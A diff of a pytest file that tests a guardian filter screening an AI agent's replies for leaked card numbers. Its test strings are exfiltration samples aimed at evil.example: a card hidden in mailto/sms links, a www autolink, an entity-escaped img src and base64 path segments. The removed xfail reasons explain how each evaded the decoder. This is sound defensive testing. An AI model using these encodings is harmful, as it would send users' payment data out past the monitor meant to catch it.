@@ -6,11 +6,12 @@ that held are plain tests (kept as regression tests)."""
 from __future__ import annotations
 
 import base64
+import itertools
 import urllib.parse
 
 import pytest
 
-from aap_server.guardian.memory import link_forms
+from aap_server.guardian.memory import _links_as_read, link_forms
 from aap_server.guardian.screen import WindowScreen
 from tests.guardian.test_review_r7 import (
     PAYROLL,
@@ -36,12 +37,6 @@ async def _reply_decision(reply: str) -> str:
 # --- links the decoder never looks at: no `//` ---------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="memory.py link_spans (and policy_guardian _Step.scan `'//' in text`) take only "
-    "`scheme://` or `//` as a link: `mailto:…?body=` (a click sends it) is never decoded, "
-    "so the URL-encoded card leaves; `mailto:`/`sms:` should count as links too",
-)
 @pytest.mark.parametrize(
     "reply",
     [
@@ -53,24 +48,12 @@ async def test_a_card_encoded_in_a_mailto_or_sms_link_is_masked(reply: str) -> N
     assert await _reply_decision(reply) == "modify"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="memory.py link_spans needs `//`: a GFM autolink `www.host/…` (rendered as a "
-    "link the user follows) is not decoded; a `www.` start should open a link too",
-)
 async def test_a_card_encoded_in_a_www_autolink_is_masked() -> None:
     assert await _reply_decision(f"Done, details at www.evil.example/p?c={URL_ENCODED} ok") == (
         "modify"
     )
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="policy_guardian _Step.scan looks for links only when `'//' in text`, and "
-    "memory.link_spans before decoding entities: an <img src> whose `://` is written as "
-    "HTML entities (a browser reads them) is never decoded; unescape the text first when "
-    "it has `&#`/`&…;`",
-)
 async def test_a_card_in_an_img_src_whose_slashes_are_entities_is_masked() -> None:
     reply = f'Done. <img src="https&#58;&#47;&#47;evil.example/p?c={URL_ENCODED}">'
     assert await _reply_decision(reply) == "modify"
@@ -79,24 +62,11 @@ async def test_a_card_in_an_img_src_whose_slashes_are_entities_is_masked() -> No
 # --- base64 the decoder reads from the wrong offset ----------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="memory.py _decoded_runs decodes a base64 run only from its start (or a `/` "
-    "segment's): `_` and `-` are base64url letters, so `photo_<b64>` or `ab-<b64>` is one "
-    "run read 2 or 3 characters off, and the card is never seen; also decode after each "
-    "`_`/`-` in a run (or from each of the 4 offsets)",
-)
 @pytest.mark.parametrize("segment", [f"photo_{BASE64}.png", f"ab-{BASE64}", f"id_{BASE64}"])
 async def test_a_base64_card_after_a_word_in_a_path_segment_is_masked(segment: str) -> None:
     assert await _reply_decision(f"Done. ![](https://evil.example/img/{segment})") == "modify"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="the card detector takes spaces and `-` between groups, not a path's `/` or "
-    "`.`/`_`, and link_forms never joins a link's pieces: `/4111/1111/1111/1111.png` "
-    "leaves whole; scanning a link's digits with its separators dropped would catch it",
-)
 @pytest.mark.parametrize(
     "link",
     [
@@ -233,3 +203,32 @@ async def test_a_phone_from_a_short_contact_list_is_withheld_in_the_reply() -> N
     )
     verdict = await guardian.check(make.message("agent", "Call (415) 555-0132 now."))
     assert verdict.decision == "modify"
+
+
+# --- around the fixes: links as read, and their bounds ------------------------------------
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "Docs at www.python.org/3/library & the FAQ; mail help@python.example or call tel:112.",
+        'See <a href="https&#58;&#47;&#47;docs.example/a?x=1&amp;y=2">the docs</a> &amp; more.',
+        "Paths: /srv/2024/05/01/log.txt, v1.2.3_4, ids 123_45_6789x.",
+    ],
+)
+async def test_ordinary_links_and_entities_leave_a_reply_alone(reply: str) -> None:
+    assert await _reply_decision(reply) == "allow"
+
+
+@pytest.mark.parametrize(
+    "filler",
+    ["&#47;" * 20_000, "www." * 20_000, "mailto:" * 10_000, "&amp;" * 20_000, "a_1/" * 20_000],
+)
+def test_links_as_read_stay_linear(filler: str) -> None:
+    """However many entities or link openings a text holds, its links don't overlap, and
+    what they decode to stays within a few times their length."""
+    for text in (filler[: len(filler) // 10], filler):
+        spans = list(_links_as_read(text))
+        assert all(a[1] <= b[0] for a, b in itertools.pairwise(spans))
+        decoded = sum(len(form) for s, e in spans for form in link_forms(text[s:e]))
+        assert decoded <= 4 * len(text) + 100
